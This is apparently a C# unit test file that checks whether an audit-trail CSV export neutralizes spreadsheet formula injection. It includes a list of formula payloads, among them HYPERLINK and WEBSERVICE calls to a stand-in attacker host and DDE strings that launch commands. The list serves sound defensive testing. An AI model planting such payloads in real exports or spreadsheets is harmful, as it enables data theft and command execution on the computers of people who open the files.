using System.Text;
using System.Text.Json;
using ReviewerConsole.Access;
using ReviewerConsole.Audit;
using ReviewerConsole.Tests.Intake;

namespace ReviewerConsole.Tests.Audit;

/// <summary>
/// Attack 31: what somebody typed runs as a formula on the desk of whoever opens the export. Rows hold codes, so little
/// that is typed gets there at all; a forged row may hold anything.
/// </summary>
public sealed class CsvInjectionTests : IAsyncDisposable
{
    private static readonly DateTime Noon = new(2026, 11, 24, 12, 0, 0, DateTimeKind.Utc);

    // OWASP's list of what begins a formula, with the wide forms that some keyboards type, and separators of other countries.
    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\"=1+1", "'=1+1", "\",=1+1,\"", "\";=1+1;\"", ";=1+1", "\"\r\n=1+1",
        "=HYPERLINK(\"http://evil.test?x=\"&A1,\"open\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.test\")",
        "=IMPORTXML(\"http://evil.test\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "=-+@1", "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(A1)", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1",
    ];

    private readonly ConsoleApp _console = new();

    public static TheoryData<string> Fields => [.. LeafWriter.Keys.Where(k => k is "actor" or "about" or "reason" or "case" or "filter" or "ip" or "id" or "n" or "iseq")];

    [Theory]
    [MemberData(nameof(Fields))]
    public async Task Whatever_a_forged_row_holds_every_cell_is_inert(string field)
    {
        var auditor = await _console.StaffAsync(Roles.Auditor);
        foreach (var formula in Formulas)
        {
            await _console.ForgeAsync(Noon, "RV-907", JsonSerializer.Serialize(new Dictionary<string, string> { [field] = formula }));
        }

        var rows = await TakeAsync(auditor, "RV-907");

        Assert.Equal(1 + Formulas.Length, rows.Count);
        Assert.All(rows, row => Assert.Equal(LeafWriter.Keys.Count + 2, row.Count)); // no value makes a cell or a row of its own
        Assert.All(rows.SelectMany(row => row), AssertInert);
        var at = rows[0].IndexOf(field);
        Assert.Equal(Formulas, rows.Skip(1).Select(row => row[at]), (typed, cell) => cell == typed || cell == $"'{typed}");
    }

    [Fact]
    public async Task Of_what_an_integrator_sends_nothing_stands_in_the_file()
    {
        var auditor = await _console.StaffAsync(Roles.Auditor);
        using var api = await _console.ApiAsync(await _console.KeyAsync("-2-3")); // the one name that can begin like a formula
        var application = Api.Application("+1-1");
        application["applicant"]!["fullName"] = "=HYPERLINK(\"http://evil.test\")";
        application["applicant"]!["address"] = "@SUM(A1)";
        var answer = await api.SendAsync(application);
        var id = (await answer.JsonAsync()).GetProperty("id").GetGuid();
        await api.UploadAsync(id, "id-card", Api.Jpeg());
        await api.UploadAsync(id, "selfie", Encoding.ASCII.GetBytes("=1+1"));

        var rows = await TakeAsync(auditor, actor: null);

        Assert.Contains(rows.SelectMany(row => row), cell => cell.StartsWith("'-2-3/", StringComparison.Ordinal));
        Assert.All(rows.SelectMany(row => row), AssertInert);
        Assert.DoesNotContain(rows.SelectMany(row => row), cell =>
            cell.Contains("HYPERLINK", StringComparison.Ordinal) || cell.Contains("SUM(", StringComparison.Ordinal) || cell.Contains("+1-1", StringComparison.Ordinal));
    }

    [Fact]
    public void No_field_of_a_row_of_ours_takes_what_a_formula_needs()
    {
        foreach (var formula in Formulas.Where(f => !f.All(c => char.IsAsciiLetterOrDigit(c) || ".:_@/=+-".Contains(c, StringComparison.Ordinal))))
        {
            Assert.Throws<ArgumentException>(() => new LeafWriter().Add("about", formula));
        }
    }

    public ValueTask DisposeAsync() => _console.DisposeAsync();

    private static void AssertInert(string cell)
    {
        var seen = cell.TrimStart(' ', '\t', '\r', '\n', '\u00A0', '\u200B', '\uFEFF', '"');
        Assert.False(seen.Length > 0 && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".Contains(seen[0], StringComparison.Ordinal), $"'{cell}' is no text");
    }

    private async Task<List<List<string>>> TakeAsync(Actor auditor, string? actor)
    {
        var export = _console.Get<TrailExport>();
        var permit = await export.AdmitAsync(auditor, new() { Actor = actor }, TrailFormat.Csv, default);
        using var body = new MemoryStream();
        Assert.True(await export.SendAsync(permit!, body, default));
        return Read(Encoding.UTF8.GetString(body.ToArray()));
    }

    // RFC 4180, written a second time so that the writer is not its own judge. A field without quotes is a fault here.
    private static List<List<string>> Read(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        for (var at = 0; at < text.Length;)
        {
            Assert.Equal('"', text[at++]);
            var cell = new StringBuilder();
            while (text[at] != '"' || (at + 1 < text.Length && text[at + 1] == '"'))
            {
                cell.Append(text[at]);
                at += text[at] == '"' ? 2 : 1;
            }

            row.Add(cell.ToString());
            at++;
            if (text[at] == ',')
            {
                at++;
                continue;
            }

            Assert.Equal("\r\n", text.Substring(at, 2));
            (rows, row, at) = ([.. rows, row], [], at + 2);
        }

        Assert.Empty(row);
        return rows;
    }
}
